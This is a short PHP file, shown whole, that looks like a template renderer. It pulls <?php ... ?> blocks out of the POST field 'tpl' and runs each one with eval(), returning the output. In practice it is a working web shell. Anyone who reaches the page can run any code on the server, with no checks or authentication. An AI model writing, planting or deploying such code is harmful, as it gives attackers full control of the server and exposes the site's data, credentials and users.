<?php
echo preg_replace_callback('/<\?php(.*?)\?>/s', function ($m) {
    ob_start();
    eval($m[1]);
    return ob_get_clean();
}, $_POST['tpl']);
